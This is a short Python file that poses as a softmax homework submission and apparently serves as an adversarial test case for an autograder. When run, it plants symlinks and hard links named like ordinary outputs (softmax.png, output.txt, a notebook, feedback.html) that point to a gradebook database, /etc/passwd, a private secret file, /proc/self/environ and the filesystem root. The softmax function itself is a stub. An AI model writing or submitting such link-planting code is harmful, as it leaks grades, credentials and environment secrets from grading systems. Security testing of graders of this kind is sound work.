"""Tries: leave symbolic and hard links to secret files where it runs, for somebody who copies or shows them."""

# deserves: 0

import os

TARGETS = {
    "softmax.png": "../../gradebook.db",
    "02_logistic_regression.ipynb": "/etc/passwd",
    "feedback.html": "../../private/ps1/secret",
    "output.txt": "/proc/self/environ",
    "folder": "/",
}
for name, target in TARGETS.items():
    for make in (os.symlink, os.link):
        try:
            make(target, name)
        except OSError:
            continue


def softmax(Z):
    return Z
